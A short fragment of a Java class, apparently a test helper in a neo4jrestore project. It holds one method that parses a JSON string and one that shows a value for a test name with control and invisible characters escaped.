  private static JsonNode parseJson(String json) {
    try {
      return ApiMapper.json().readTree(json);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** A value as a test name shows it: control and invisible characters escaped. */
  static String show(String value) {
    return io.neo4jrestore.api.validation.Quoting.quoted(value);
  }
}
